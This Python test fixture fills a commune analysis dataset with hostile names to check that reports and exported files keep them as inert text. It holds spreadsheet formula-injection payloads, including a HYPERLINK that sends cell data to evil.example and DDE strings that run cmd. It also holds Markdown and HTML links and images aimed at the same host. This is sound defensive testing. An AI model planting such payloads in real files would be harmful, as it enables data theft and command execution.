"""Names as an attacker (or a careless file) gives them, and the analysis commune renamed with them.

Formulas a spreadsheet would run, Markdown links and images to an outside address, HTML and a bare address: every
page must show them as text, and every file the program writes must keep them as text.
"""

from __future__ import annotations

import pandas as pd

from tests import analysis_fixture as fixture

VILLAGE_FORMULA = '=HYPERLINK("http://evil.example/?d="&B3,"x")'
MEMBER_FORMULA = "=1+2"
DDE = "+cmd|' /C calc'!A0"
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
MARKDOWN_LINK = "[đăng nhập](http://evil.example/login)"
MARKDOWN_IMAGE = "![x](http://evil.example/p.png)"
HTML_IMAGE = '<img src="http://evil.example/h.png">'
HTML_LINK = '<a href="http://evil.example/login">đăng nhập</a>'
BARE_ADDRESS = "www.evil.example/login"
FORMULAS = (VILLAGE_FORMULA, MEMBER_FORMULA, DDE, AT_FORMULA)
EVIL_HOST = "evil.example"

COMMUNE_NAME = f"Xã {MARKDOWN_LINK} {MARKDOWN_IMAGE}"
VILLAGE_NAMES = {
    fixture.DONG: VILLAGE_FORMULA,
    fixture.TAY: DDE,
    fixture.NAM: f"Thôn {MARKDOWN_IMAGE} {HTML_IMAGE}",
    fixture.BAC: f"Thôn {MARKDOWN_LINK} {BARE_ADDRESS} {HTML_LINK}",
}
MEMBER_NAMES = [MEMBER_FORMULA, AT_FORMULA, MARKDOWN_LINK, HTML_IMAGE, DDE, MARKDOWN_IMAGE, BARE_ADDRESS]


def tables() -> dict[str, pd.DataFrame]:
    """The analysis commune (reports, teams, training) with every name, topic, place and note made hostile."""
    tables = fixture.tables()
    tables["communes"] = tables["communes"].assign(name=COMMUNE_NAME)
    tables["villages"] = tables["villages"].assign(name=tables["villages"]["code"].map(VILLAGE_NAMES))
    tables["members"] = tables["members"].assign(full_name=MEMBER_NAMES[:len(tables["members"])])
    tables["training_sessions"] = tables["training_sessions"].assign(
        topic=[MARKDOWN_IMAGE, MEMBER_FORMULA], organiser=DDE, place=[HTML_IMAGE, VILLAGE_FORMULA])
    tables["reports"] = tables["reports"].assign(note=tables["reports"]["note"].map(
        lambda note: note if note in (None, fixture.FORMULA_NOTE) else f"{HTML_IMAGE} {MARKDOWN_LINK}"))
    return tables
